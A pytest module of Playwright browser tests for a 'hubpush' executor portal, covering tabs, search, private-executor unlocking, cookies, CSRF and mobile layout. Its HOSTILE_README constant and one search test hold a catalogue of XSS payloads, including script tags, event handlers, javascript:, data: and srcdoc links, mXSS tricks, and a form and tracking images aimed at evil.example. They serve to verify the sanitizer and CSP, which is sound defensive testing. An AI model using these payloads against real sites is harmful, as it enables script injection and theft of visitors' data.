"""The Hub portal in a real browser: Debian's headless Chromium driven by Playwright.

One registry:2 and one gateway of this module's own (a clean portal, clean screenshots),
executors published with the real CLI through the gateway, and one browser for the module.
Every check is what a visitor sees: tabs clicked, the search box typed into, forms sent,
cookies as the browser keeps them, console messages and every request the pages made.

Screenshots land in ``tests/e2e/artifacts/`` (gitignored). With
``HUBPUSH_DOCS_SCREENSHOTS=1`` they are copied into ``docs/portal/`` as well, for
``docs/portal.md``.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import requests

from hubpush.core.names import repository_for
from tests.conftest import (
    REPO_ROOT,
    TEST_BASE_IMAGE,
    Gateway,
    push_ok,
    remove_local_images,
    run_cli,
    running_gateway,
    running_registry,
)

sync_api = pytest.importorskip("playwright.sync_api")

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
ARTIFACTS = Path(__file__).parent / "artifacts"
DOCS_SCREENSHOTS = REPO_ROOT / "docs" / "portal"
WIDE = {"width": 1200, "height": 800}
PHONE = {"width": 390, "height": 844}
#: outside the hub: a README may name it, the page must never load it
EVIL = "evil.example"
#: the gateway's index refresh interval here (HUBPUSH_GATEWAY_INDEX_SECONDS; 15 by default)
INDEX_SECONDS = 1

TEXT_ENCODER_README = """# TextEncoder

Turns sentences into dense vectors, for semantic search over short texts.

## Use it in a Flow

```python
from jina import Flow

flow = Flow().add(uses="docker://HUB/text-encoder:v2", uses_with={"model": "mini", "batch_size": 32, "normalize": True})
```

## Parameters

| parameter | default | meaning |
|---|---|---|
| `model` | `mini` | which model to load at start |
| `batch_size` | `32` | documents encoded at once |
| `normalize` | `true` | unit-length vectors |

See [the Jina documentation](https://docs.jina.ai/) for more about Flows.
"""

HOSTILE_README = f"""# Hostile README

This README tries everything a README can try.

<script>window.__pwned = "script"; document.title = "pwned";</script>

<img src="https://{EVIL}/pixel.png" onerror="window.__pwned = 'img onerror'; document.title = 'pwned'">

![tracker](https://{EVIL}/track.gif)

[a markdown link](javascript:window.__pwned='markdown-link')

<a id="js-link" href="javascript:window.__pwned='a-href';document.title='pwned'">an HTML link</a>
<a id="mixed-case" href="JaVaScRiPt:window.__pwned='mixed-case'">mixed case</a>
<a id="data-link" href="data:text/html,<script>parent.__pwned='data'</script>">a data: link</a>
<a id="onclick-link" href="#x" onclick="window.__pwned='onclick'">onclick</a>

<svg onload="window.__pwned='svg onload'; document.title='pwned'"><circle r="4"/><script>window.__pwned='svg script'</script></svg>

<iframe src="javascript:parent.__pwned='iframe'"></iframe>
<iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>

<details open ontoggle="window.__pwned='ontoggle'"><summary>details</summary>opened</details>

<p title="x" onmouseover="window.__pwned='mouseover'" id="hover-me">hover me</p>

<style>body {{ display: none }}</style>
<div style="position: fixed; inset: 0; background: red">overlay</div>

<form action="https://{EVIL}/steal"><input name="q"><button>go</button></form>
<meta http-equiv="refresh" content="0;url=javascript:window.__pwned='meta'">
<base href="https://{EVIL}/">
<link rel="stylesheet" href="https://{EVIL}/x.css">
<object data="javascript:window.__pwned='object'"></object><embed src="javascript:window.__pwned='embed'">

<noscript><p title="</noscript><img src=https://{EVIL}/n.png onerror=window.__pwned='noscript'>"></noscript>
<math><mtext><table><mglyph><style><img src=https://{EVIL}/m.png onerror=window.__pwned='mglyph'></style></mglyph></table></mtext></math>

The rest of this README is ordinary text.
"""


# --- the hub and what is published on it ------------------------------------------------
@dataclass(frozen=True)
class Published:
    name: str
    repository: str
    description: str
    secret: str
    private: bool = False


@dataclass
class Hub:
    gateway: Gateway
    executors: dict[str, Published] = field(default_factory=dict)
    #: public executors, in the order of their last push, oldest first
    push_order: list[str] = field(default_factory=list)
    #: how long a push straight to the registry (another replica's, as far as this gateway knows) took to be listed
    seen_after: float = 0.0

    @property
    def url(self) -> str:
        return self.gateway.url

    @property
    def host(self) -> str:
        return self.gateway.address

    def page(self, name: str) -> str:
        return f"{self.url}/executors/{self.executors[name].repository}"


CONFIG = """jtype: {name}
py_modules:
  - executor.py
metas:
  name: {name}
  description: {description}
  version: 0.0.1
"""


@pytest.fixture(scope="module")
def hub(docker_client, tmp_path_factory) -> Iterator[Hub]:
    """A registry and a gateway of this module's own, with six executors published (five through the gateway)."""
    root = tmp_path_factory.mktemp("portal")
    index_seconds = {"HUBPUSH_GATEWAY_INDEX_SECONDS": str(INDEX_SECONDS)}
    with running_registry(docker_client) as registry, running_gateway(registry, root, env=index_seconds) as gateway:
        try:
            yield publish_all(Hub(gateway), root)
        finally:
            remove_local_images(docker_client, gateway.address)


def publish_all(hub: Hub, root: Path) -> Hub:
    environment = {k: v for k, v in os.environ.items() if not k.startswith("HUBPUSH_")}
    environment.update(HUBPUSH_REGISTRY=hub.gateway.address, HUBPUSH_BASE_IMAGE=TEST_BASE_IMAGE)
    last = 0.0
    lock = threading.Lock()

    def cli(*args: object, env: dict[str, str] | None = None):
        return run_cli({**environment, **(env or {})}, *args)

    def push(name: str, description: str, *args: str, files: dict[str, str] | None = None, private: bool = False,
             at_once: bool = False, **env: str) -> None:  # fmt: skip
        nonlocal last
        folder = root / name
        folder.mkdir(exist_ok=True)
        config = CONFIG.format(name=name, description=json.dumps(description))
        for rel, text in {"config.yml": config, "executor.py": "# code\n", **(files or {})}.items():
            (folder / rel).write_text(text)
        if not at_once:
            time.sleep(max(0.0, last + 1.1 - time.monotonic()))  # push times have a resolution of a second
        # a secret cache per executor: pushes may run at once
        out = push_ok(
            cli,
            folder,
            *args,
            *(["--private"] if private else []),
            env={"HUBPUSH_CONFIG_DIR": str(root / "config" / name), **env},
        )
        with lock:
            last = max(last, time.monotonic())
            secret = out.get("secret") or hub.executors[name].secret  # an update prints no secret
            hub.executors[name] = Published(name, repository_for(name), description, secret, private)
            if not private:
                hub.push_order = [n for n in hub.push_order if n != name] + [name]

    # at once, the pushes whose order Recent does not show: TextEncoder is updated last, SecretSauce is private
    with ThreadPoolExecutor(3) as pool:
        for started in [
            pool.submit(push, "TextEncoder", "Turns sentences into dense vectors", "-t", "latest", "--protected-tag", "1.0.0",
                        files={"README.md": TEXT_ENCODER_README, "manifest.yml": "keywords: [nlp, encoder, transformer]\n"}, at_once=True),
            pool.submit(push, "SecretSauce", "Private: never listed for visitors", files={"manifest.yml": "keywords: [nlp]\n"},
                        private=True, at_once=True),
            pool.submit(push, "ImageResizer", "Resizes images to a fixed size", at_once=True),
        ]:  # fmt: skip
            started.result()
    push("AudioSlicer", "Cuts audio into windows of one second", files={"manifest.yml": "keywords: [audio]\n"})
    # straight to the registry, as through another gateway replica: this gateway's index finds it on a refresh
    push("VideoTagger", "Tags the frames of a video", HUBPUSH_REGISTRY=hub.gateway.registry.address)
    deadline = last + INDEX_SECONDS + 10
    while "VideoTagger" not in requests.get(f"{hub.url}/hubpush/v1/executors?q=VideoTagger", timeout=10).text:
        assert time.monotonic() < deadline, "an executor pushed straight to the registry never showed up"
        time.sleep(0.1)
    hub.seen_after = time.monotonic() - last
    push("HostileReadme", "A README that tries every trick", files={"README.md": HOSTILE_README})
    # an update moves an executor to the top of Recent
    push("TextEncoder", "Turns sentences into dense vectors", "--force-update", "TextEncoder", "-t", "v2",
         files={"README.md": TEXT_ENCODER_README.replace("HUB", hub.host)})  # fmt: skip
    return hub


# --- the browser --------------------------------------------------------------------------
@pytest.fixture(scope="module")
def browser():
    if not Path(CHROMIUM).is_file():
        pytest.fail(f"the browser tests need Debian's chromium at {CHROMIUM}: run scripts/bootstrap.sh")
    with sync_api.sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            yield launched
        finally:
            launched.close()


@dataclass
class Seen:
    """What the pages of one browser context did: requests, console errors, uncaught errors."""

    requests: list[str] = field(default_factory=list)
    #: requests the browser itself refused to send, by Content-Security-Policy
    blocked_by_csp: list[str] = field(default_factory=list)
    console_errors: list[str] = field(default_factory=list)
    page_errors: list[str] = field(default_factory=list)


@pytest.fixture
def visit(browser):
    """``page, seen = visit(**context_options)``: a page in a fresh context (its own cookies), watched."""
    contexts = []

    def open_page(**options):
        context = browser.new_context(**{"viewport": WIDE, **options})
        contexts.append(context)
        seen = Seen()
        context.on("request", lambda request: seen.requests.append(request.url))
        context.on("requestfailed", lambda request: request.failure == "csp" and seen.blocked_by_csp.append(request.url))
        page = context.new_page()
        page.on("console", lambda message: message.type == "error" and seen.console_errors.append(message.text))
        page.on("pageerror", lambda error: seen.page_errors.append(str(error)))
        return page, seen

    yield open_page
    for context in contexts:
        context.close()


def card_names(page) -> list[str]:
    return page.locator("li.card a.name").all_inner_texts()


def screenshot(page, name: str, *, full_page: bool = True) -> Path:
    ARTIFACTS.mkdir(exist_ok=True)
    path = ARTIFACTS / f"{name}.png"
    page.screenshot(path=str(path), full_page=full_page)
    if os.environ.get("HUBPUSH_DOCS_SCREENSHOTS") == "1":
        DOCS_SCREENSHOTS.mkdir(exist_ok=True)
        shutil.copyfile(path, DOCS_SCREENSHOTS / path.name)
    return path


def no_horizontal_scroll(page) -> bool:
    return page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")


# --- the list: tabs and search ------------------------------------------------------------
def test_recent_tab_lists_newest_push_first_and_never_the_private_one(hub, visit):
    page, seen = visit()
    page.goto(f"{hub.url}/?tab=all")
    page.click("#tab-recent")
    page.wait_for_url(f"{hub.url}/?tab=recent")
    assert page.locator("#tab-recent").get_attribute("aria-current") == "page"
    assert card_names(page) == list(reversed(hub.push_order))
    assert card_names(page)[0] == "TextEncoder"  # its update is the newest push
    assert "SecretSauce" not in page.content() and "secret-sauce" not in page.content()
    first = page.locator("li.card").first
    assert first.locator(".badge").inner_text().lower() == "public"
    assert first.locator(".keyword").all_inner_texts() == ["nlp", "encoder", "transformer"]
    tags = first.locator("code.tag").all_inner_texts()
    assert tags[0] == "v2" and sorted(tags[1:]) == ["1.0.0", "latest"]  # newest first (one push's tags may differ by a second)
    assert first.locator("code.tag.protected").all_inner_texts() == ["1.0.0"]
    assert re.fullmatch(r"\d+(\.\d)? (B|KB|MB)", first.locator(".facts div:has(dt:text('Size')) dd").inner_text())
    assert seen.console_errors == [] and seen.page_errors == []
    screenshot(page, "list")


def test_a_push_the_gateway_did_not_handle_is_listed_after_an_index_refresh(hub, visit):
    assert hub.seen_after <= INDEX_SECONDS + 3  # one refresh interval, and the time a refresh takes
    page, _ = visit()
    page.goto(f"{hub.url}/?tab=all")
    card = page.locator("li.card", has=page.locator("a.name:text-is('VideoTagger')"))
    assert card.locator("p.description").inner_text() == "Tags the frames of a video"
    card.locator("a.name").click()
    assert page.locator(".copy-line pre code").first.inner_text() == f"docker pull {hub.host}/video-tagger:latest"


def test_all_tab_lists_by_name(hub, visit):
    page, _ = visit()
    page.goto(hub.url)
    assert page.locator("#tab-recent").get_attribute("aria-current") == "page"  # Recent is the default
    page.click("#tab-all")
    page.wait_for_url(f"{hub.url}/?tab=all")
    assert (
        card_names(page)
        == sorted(hub.push_order)
        == ["AudioSlicer", "HostileReadme", "ImageResizer", "TextEncoder", "VideoTagger"]
    )


@pytest.mark.parametrize(
    ("words", "found"),
    [
        ("nlp", ["TextEncoder"]),  # a keyword (the private SecretSauce has it too)
        ("resizes", ["ImageResizer"]),  # a word of a description
        ("AUDIO windows", ["AudioSlicer"]),  # a keyword and a description word, any case
        ("sauce", []),  # a private executor's name
    ],
)
def test_search_box_finds_by_keyword_and_description(hub, visit, words, found):
    page, _ = visit()
    page.goto(f"{hub.url}/?tab=all")
    page.fill("input[name=q]", words)
    page.click(".search button[type=submit]")
    page.wait_for_load_state()
    assert card_names(page) == found
    assert page.locator("#tab-all").get_attribute("aria-current") == "page"  # the tab is kept
    if found:
        assert f"{len(found)} executor" in page.locator("p.note").inner_text()
    else:
        assert page.locator("p.empty").inner_text() == "No executor matches this search."


def test_search_is_kept_across_tabs_and_shown_as_text(hub, visit):
    page, _ = visit()
    page.goto(hub.url)
    page.fill("input[name=q]", "nlp")
    page.press("input[name=q]", "Enter")
    page.wait_for_url(f"{hub.url}/?tab=recent&q=nlp")
    page.click("#tab-all")
    page.wait_for_url(f"{hub.url}/?tab=all&q=nlp")
    assert card_names(page) == ["TextEncoder"] and page.input_value("input[name=q]") == "nlp"
    page.click("p.note a:text-is('clear')")
    assert card_names(page) == sorted(hub.push_order)
    page.fill("input[name=q]", "   ")  # blanks only: the whole list, no "matching" line
    page.press("input[name=q]", "Enter")
    page.wait_for_load_state()
    assert card_names(page) == sorted(hub.push_order) and page.locator("p.note").count() == 0
    assert page.input_value("input[name=q]") == ""
    hostile = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>'
    page.fill("input[name=q]", hostile)
    page.press("input[name=q]", "Enter")
    page.wait_for_load_state()
    assert page.locator("p.note strong").inner_text() == hostile
    assert page.evaluate("typeof window.__pwned") == "undefined"


# --- the executor page ---------------------------------------------------------------------
def test_executor_page_shows_tags_protected_mark_pull_lines_and_readme(hub, visit):
    page, seen = visit()
    page.goto(hub.url)
    page.click("li.card a.name:text-is('TextEncoder')")
    page.wait_for_url(hub.page("TextEncoder"))
    assert page.title() == "TextEncoder · hubpush"
    assert page.locator("h1").first.inner_text().startswith("TextEncoder")
    assert page.locator(".executor p.description").inner_text() == "Turns sentences into dense vectors"
    rows = page.locator(".tags tbody tr")
    tags = rows.locator("td:first-child code").all_inner_texts()
    assert tags[0] == "v2" and sorted(tags[1:]) == ["1.0.0", "latest"]
    protected = page.locator(".tags tbody tr.protected")
    assert protected.count() == 1 and protected.locator("code").first.inner_text() == "1.0.0"
    assert protected.locator(".lock").inner_text() == "protected"
    for digest in page.locator(".tags code.digest").all_inner_texts():
        assert re.fullmatch(r"sha256:[0-9a-f]{64}", digest)
    assert page.locator(".copy-line pre code").all_inner_texts() == [
        f"docker pull {hub.host}/text-encoder:v2",
        f"hubpush pull TextEncoder -t v2 --registry {hub.host}",
        f"uses: docker://{hub.host}/text-encoder:v2",
        f"uses: jinahub+docker://TextEncoder/v2   (JINA_HUBBLE_REGISTRY={hub.url}/jina)",
    ]
    readme = page.locator(".readme .markdown")
    assert readme.locator("h1").inner_text() == "TextEncoder"
    assert readme.locator("h2").all_inner_texts() == ["Use it in a Flow", "Parameters"]
    assert readme.locator("table thead th").all_inner_texts() == ["parameter", "default", "meaning"]
    assert readme.locator("table tbody tr").count() == 3
    assert readme.locator("pre code").inner_text().startswith("from jina import Flow")
    assert readme.locator("a").get_attribute("href") == "https://docs.jina.ai/"
    # the style sheet came from the hub and applies (system fonts, no web font)
    assert page.evaluate("getComputedStyle(document.querySelector('.readme')).borderRadius") == "8px"
    assert seen.console_errors == [] and seen.page_errors == []
    screenshot(page, "executor")


def test_hostile_readme_runs_nothing(hub, visit):
    page, seen = visit()
    page.goto(hub.page("HostileReadme"))
    page.wait_for_load_state("networkidle")
    for selector in ["#js-link", "#mixed-case", "#data-link", "#onclick-link"]:
        if page.locator(selector).count():
            page.click(selector)
    if page.locator("#hover-me").count():
        page.hover("#hover-me")
    page.wait_for_timeout(200)
    assert page.url.startswith(hub.page("HostileReadme"))  # no link, refresh or form took the page away
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert page.title() == "HostileReadme · hubpush"
    assert page.locator("body").is_visible() and page.locator("text=The rest of this README is ordinary text.").is_visible()
    markdown = page.locator(".readme .markdown")
    assert (
        markdown.locator("script, iframe, svg, style, form, input, object, embed, meta, base, link, math, noscript").count() == 0
    )
    risky = page.evaluate(
        """() => [...document.querySelectorAll('.readme .markdown *')].flatMap(el => [...el.attributes]
             .filter(a => a.name.startsWith('on') || a.name === 'style' || a.name === 'srcdoc'
                          || /^\\s*(javascript|data|vbscript):/i.test(a.value))
             .map(a => `${el.tagName} ${a.name}=${a.value}`))"""
    )
    assert risky == []
    assert page.locator(".readme .markdown details").get_attribute("ontoggle") is None
    # no console error at all: the sanitizer dropped the images' sources, so even the CSP had nothing to refuse
    assert seen.page_errors == [] and seen.console_errors == []
    assert page.locator(".readme .markdown img[src]").count() == 0


# --- private executors --------------------------------------------------------------------
def scrub_csrf(html: str) -> str:
    return re.sub(r'name="csrf" value="[^"]*"', 'name="csrf" value=""', html)


def test_private_page_answers_like_a_missing_one(hub, visit):
    page, _ = visit()
    private = page.goto(hub.page("SecretSauce"))
    private_html = page.content()
    missing = page.goto(f"{hub.url}/executors/no-such-thing")
    missing_html = page.content()
    assert private.status == missing.status == 404
    # the same page but for the name; the form token carries its expiry time, so it differs from one second to the next
    assert scrub_csrf(private_html).replace("secret-sauce", "REPO") == scrub_csrf(missing_html).replace("no-such-thing", "REPO")
    assert private.headers["content-security-policy"] == missing.headers["content-security-policy"]
    assert "SecretSauce" not in private_html
    # with a trailing slash, each is sent to its page without it: a public one shows, the two others stay alike
    for name, status in [("no-such-thing", 404), ("secret-sauce", 404), ("text-encoder", 200)]:
        answer = page.goto(f"{hub.url}/executors/{name}/")
        assert answer.status == status and page.url == f"{hub.url}/executors/{name}"
        assert answer.request.redirected_from.url == f"{hub.url}/executors/{name}/"
    listing = page.request.get(f"{hub.url}/hubpush/v1/executors").json()
    assert "SecretSauce" not in str(listing)


def unlock(page, hub: Hub, name: str, secret: str):
    page.goto(hub.page("SecretSauce"))
    page.fill("input[name=name]", name)
    page.fill("input[name=secret]", secret)
    with page.expect_navigation() as navigation:
        page.click("form.unlock button[type=submit]")
    return navigation.value


def test_owner_unlocks_a_private_page_with_name_and_secret(hub, visit):
    page, _ = visit()
    started = time.time()
    answer = unlock(page, hub, "SecretSauce", hub.executors["SecretSauce"].secret)
    assert answer.status == 200 and page.url == hub.page("SecretSauce")
    assert page.locator("h1 .badge").inner_text().lower() == "private"
    assert page.locator(".executor p.description").inner_text() == "Private: never listed for visitors"
    assert f"docker pull {hub.host}/secret-sauce:latest" in page.locator(".copy-line pre code").all_inner_texts()
    cookies = {cookie["name"]: cookie for cookie in page.context.cookies()}
    unlocked = cookies["hubpush_unlocked"]
    assert unlocked["httpOnly"] is True and unlocked["sameSite"] == "Strict" and unlocked["path"] == "/"
    assert started + 540 < unlocked["expires"] < time.time() + 660  # ten minutes
    assert cookies["hubpush_csrf"]["httpOnly"] is True and cookies["hubpush_csrf"]["sameSite"] == "Strict"
    assert page.evaluate("document.cookie") == ""  # scripts see neither
    # the owner now sees it in the list too, and only in this browser
    page.goto(f"{hub.url}/?tab=all")
    assert "SecretSauce" in card_names(page)
    other, _ = visit()
    other.goto(f"{hub.url}/?tab=all")
    assert "SecretSauce" not in card_names(other)


@pytest.mark.parametrize("whose", ["wrong secret", "another executor's name and secret"])
def test_unlock_with_a_wrong_secret_shows_nothing(hub, visit, whose):
    page, _ = visit()
    name, secret = (
        ("SecretSauce", "not-the-secret") if whose == "wrong secret" else ("TextEncoder", hub.executors["TextEncoder"].secret)
    )
    answer = unlock(page, hub, name, secret)
    assert answer.status == 404
    assert page.locator("p.error").inner_text() == "Incorrect NAME or SECRET."
    assert "Private: never listed" not in page.content()
    assert "hubpush_unlocked" not in {cookie["name"] for cookie in page.context.cookies()}


def test_unlock_without_the_form_token_is_refused(hub, visit):
    page, _ = visit()
    page.goto(hub.page("SecretSauce"))
    secret = hub.executors["SecretSauce"].secret
    forged = page.request.post(
        f"{hub.page('SecretSauce')}/unlock", form={"name": "SecretSauce", "secret": secret, "csrf": "forged"}
    )
    assert forged.status == 403
    assert "hubpush_unlocked" not in {cookie["name"] for cookie in page.context.cookies()}


# --- without JavaScript, and with it -----------------------------------------------------
def test_pages_work_without_javascript_and_hide_copy_buttons(hub, visit):
    page, seen = visit(java_script_enabled=False)
    page.goto(hub.url)
    assert card_names(page) == list(reversed(hub.push_order))
    page.fill("input[name=q]", "encoder")
    page.press("input[name=q]", "Enter")
    page.wait_for_load_state()
    assert card_names(page) == ["TextEncoder"]
    page.click("li.card a.name")
    page.wait_for_url(hub.page("TextEncoder"))
    assert page.locator(".copy-line pre code").first.inner_text() == f"docker pull {hub.host}/text-encoder:v2"
    copy = page.locator("button.copy")
    assert copy.count() == 4 and all(not copy.nth(i).is_visible() for i in range(4))
    # the unlock form is a plain form as well
    unlock(page, hub, "SecretSauce", hub.executors["SecretSauce"].secret)
    assert page.url == hub.page("SecretSauce") and page.locator("h1 .badge").inner_text().lower() == "private"
    assert seen.page_errors == []


def test_copy_button_with_javascript_copies_the_line(hub, visit):
    page, seen = visit(permissions=["clipboard-read", "clipboard-write"])
    page.goto(hub.page("TextEncoder"))
    button = page.locator(".copy-line button.copy").first
    button.wait_for(state="visible")
    button.click()
    assert page.evaluate("navigator.clipboard.readText()") == f"docker pull {hub.host}/text-encoder:v2"
    assert button.inner_text() == "Copied"
    assert seen.console_errors == [] and seen.page_errors == []


# --- a phone, and nothing from outside ----------------------------------------------------
def test_phone_viewport_has_no_horizontal_scroll(hub, visit):
    page, _ = visit(viewport=PHONE, device_scale_factor=2, is_mobile=True, has_touch=True)
    for url in [hub.url, f"{hub.url}/?tab=all", hub.page("TextEncoder"), hub.page("HostileReadme"), hub.page("SecretSauce")]:
        page.goto(url)
        assert page.evaluate("window.innerWidth") == PHONE["width"]
        assert no_horizontal_scroll(page), (url, page.evaluate("document.documentElement.scrollWidth"))
    page.goto(hub.page("TextEncoder"))
    # each pull line is in view whole (wrapped), not in a box to scroll sideways
    assert page.evaluate("[...document.querySelectorAll('.copy-line pre')].every(e => e.scrollWidth <= e.clientWidth)")
    screenshot(page, "phone", full_page=False)


def test_pages_load_nothing_from_outside_the_hub(hub, visit):
    page, seen = visit()
    urls = [hub.url, f"{hub.url}/?tab=all", f"{hub.url}/?q=nlp", f"{hub.url}/executors/no-such-thing"]
    urls += [hub.page(name) for name in hub.executors if name != "HostileReadme"]
    for url in urls:
        page.goto(url)  # waits for the load event: style sheet, script and images included
    assert seen.requests, "no request was recorded"
    assert [url for url in seen.requests if urlsplit(url).netloc != hub.host] == []
    assert f"{hub.url}/static/portal.css" in seen.requests and f"{hub.url}/static/copy.js" in seen.requests
    # a README that names images elsewhere: the sanitizer drops every image source, so the browser
    # does not even try (and the CSP, img-src 'self', would block it if it did)
    page.goto(hub.page("HostileReadme"))
    page.wait_for_load_state("networkidle")
    outside = sorted({url for url in seen.requests if urlsplit(url).netloc != hub.host})
    assert outside == [] and seen.blocked_by_csp == [], outside
